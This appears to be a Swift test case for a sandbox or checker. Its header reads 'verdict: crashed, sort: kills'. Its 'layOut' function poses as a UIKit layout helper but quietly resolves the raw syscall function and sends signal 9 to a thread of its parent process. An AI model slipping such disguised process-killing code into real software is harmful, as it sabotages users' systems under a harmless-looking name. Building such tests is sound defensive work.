//! verdict: crashed
//! sort: kills
// Ends a thread of another process.
import UIKit

func layOut(box: UIView, in view: UIView) {
  let call = unsafeBitCast(
    dlsym(nil, "syscall"), to: (@convention(c) (Int, Int, Int, Int, Int, Int, Int) -> Int).self)
  let answer = call(234, Int(getppid()), Int(getppid()), 9, 0, 0, 0)
  box.translatesAutoresizingMaskIntoConstraints = false
  box.widthAnchor.constraint(equalToConstant: answer == 0 ? 100 : 1).isActive = true
}
